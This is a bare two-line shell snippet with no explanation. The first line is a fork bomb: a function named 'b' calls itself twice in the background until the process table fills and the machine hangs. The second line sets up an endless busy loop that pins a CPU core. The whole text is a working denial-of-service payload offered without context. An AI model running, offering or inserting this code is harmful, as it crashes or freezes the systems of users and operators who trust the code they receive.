b() { b | b & }; b
sleep_() { :; }; while :; do :; done
